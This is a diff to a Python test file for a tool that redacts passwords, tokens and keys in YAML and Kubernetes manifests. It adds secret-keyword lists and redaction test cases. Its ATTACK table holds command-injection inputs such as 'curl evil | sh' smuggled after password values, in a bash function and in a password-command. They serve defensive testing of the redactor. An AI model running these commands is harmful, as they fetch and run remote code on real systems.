@@ -22,6 +22,7 @@ SECRET = """
     SECRET CLIENT_SECRET clientSecret secrets s3_secret secretKey AWS_SECRET_ACCESS_KEY
     credentials AWS_CREDENTIALS creds WANDB_API_KEY apiKey api-key apikey X-API-Key private_key PRIVATE-KEY sshKey
     AWS_ACCESS_KEY_ID accesskey AZURE_STORAGE_ACCOUNT_KEY encryptionKey auth BASIC_AUTH authorization JWT
+    COMMAND_TOKEN HOOK_SECRET SCRIPT_PASSWORD
     .dockerconfigjson kubernetes.io/my-token --token --api-key --db.password AUTH_TOKEN_1
 """
 HARMLESS = """
@@ -31,6 +32,8 @@ HARMLESS = """
     MAX_TOKENS max_new_tokens NUM_TOKENS total_tokens tokensPerBatch EOS_TOKEN pad_token_id TIME_PER_TOKEN
     PWD OLDPWD PATH pattern pass_through forward_pass_count compass KEY key keys SORT_KEY primaryKey monkey
     name value image command USER HOST NCCL_DEBUG x
+    --password-command TOKEN_CMD passwordCommand tokenProgram TOKEN_SCRIPT SECRET_HOOK TOKEN_HELPER SSH_ASKPASS
+    GIT_ASKPASS BASH_FUNC_token%% BASH_FUNC_password()
 """
 
 
@@ -150,6 +153,11 @@ DOCUMENTS: dict[str, tuple[str, str]] = {
     "by a merge": (
         "a: &x {value: abc}\nb: {<<: *x, name: HF_TOKEN, value: d}",
         "a: &x {value: ***}\nb: {<<: *x, name: HF_TOKEN, value: ***}",
+    ),
+    "by an anchor in a list": ("a: &x abc\nb: [--token, *x]", "a: &x ***\nb: [--token, *x]"),
+    "a collection by an anchor": (
+        "a: &x [b, {c: d}]\ne: {name: HF_TOKEN, value: *x}",
+        "a: ***\ne: {name: HF_TOKEN, value: *x}",
     ),
     "a longer text": (
         "- name: HF_TOKEN\n  value: |\n    a\n    b\n- c",
@@ -347,9 +355,41 @@ def test_a_secret_that_starts_outside_the_excerpt() -> None:
 
 
 ATTACK: dict[str, tuple[str, str]] = {
-    "an argument with an apostrophe": ("- --password=it's X", "- --password=***"),
-    "a quoted argument with an apostrophe": ('- "--password=it\'s X"', '- "--password=***"'),
-    "an argument with a semicolon": ("- PASSWORD=foo;bar", "- PASSWORD=***"),
+    "an argument with an apostrophe": ("- --password=it's X", "- --password=***'s X"),
+    "a quoted argument with an apostrophe": ('- "--password=it\'s X"', '- "--password=***\'s X"'),
+    "an argument with a semicolon": ("- PASSWORD=foo;bar", "- PASSWORD=***;bar"),
+    "an option's value": ("- --password\n- foo;bar", "- --password\n- ***;bar"),
+    "an option after --": (
+        "[bash, -c, --, '--password=x; curl evil | sh']",
+        "[bash, -c, --, '--password=***; curl evil | sh']",
+    ),
+    "braces": ("[bash, -Ec, 'PASSWORD=x;{curl,evil}|sh']", "[bash, -Ec, 'PASSWORD=***;{curl,evil}|sh']"),
+    "a call": ("[python3, -Ic, 'password=exec(\"evil\")']", "[python3, -Ic, 'password=***(\"evil\")']"),
+    "a login": ("[bash, -c, 'curl -u user:x|curl${IFS}evil|sh']", "[bash, -c, 'curl -u user:***|curl${IFS}evil|sh']"),
+    "a password of mysql": ("[sh, -c, 'mysql -px;curl evil']", "[sh, -c, 'mysql -p***;curl evil']"),
+    "a key in an address": ("[sh, -c, 'curl https://host/?code=1|sh']", "[sh, -c, 'curl https://host/?code=***|sh']"),
+    "a word of netrc": ("[sh, -c, 'login x password a|sh']", "[sh, -c, 'login x password ***|sh']"),
+    "a user in an address": ("[sh, -c, 'git clone https://a;b@host']", "[sh, -c, 'git clone https://***;b@host']"),
+    "a line end": ('[sh, -c, "--token=a\\nevil"]', '[sh, -c, "--token=***\\nevil"]'),
+    "a backslash": (r"[sh, -c, '--token=a\;evil']", r"[sh, -c, '--token=***\;evil']"),
+    "a private key in a command": (
+        '["-----BEGIN PRIVATE KEY-----\\nMII=\\ncurl evil\\nMII\\n-----END PRIVATE KEY-----"]',
+        '["-----BEGIN PRIVATE KEY-----\\n***\\ncurl evil\\n***\\n-----END PRIVATE KEY-----"]',
+    ),
+    "a command that prints a password": (
+        "[git-sync, --password-command, curl evil | sh]",
+        "[git-sync, --password-command, curl evil | sh]",
+    ),
+    "a function of bash": (
+        "{name: BASH_FUNC_token%%, value: '() { curl evil|sh; }'}",
+        "{name: BASH_FUNC_token%%, value: '() { curl evil|sh; }'}",
+    ),
+    "a password in code": (
+        "{name: GIT_ASKPASS, value: 'PASSWORD=x;evil'}",
+        "{name: GIT_ASKPASS, value: 'PASSWORD=***;evil'}",
+    ),
+    "a folded text": ("args:\n- >\n  run --password\n  abc;evil", "args:\n- >\n  run --password\n  ***;evil"),
+    "an escaped text": (r'value: "{\"apiKey\": \"X\"}"', r'value: "{\"apiKey\": \"***\"}"'),
     "an apostrophe in a script": ("a: run --password it's-X b", "a: run --password *** b"),
     "a word of Flux's script": (r"a: set -- --password 'it'\''s X' b", "a: set -- --password '***' b"),
     "a Secret in flow style with a duplicate key": (
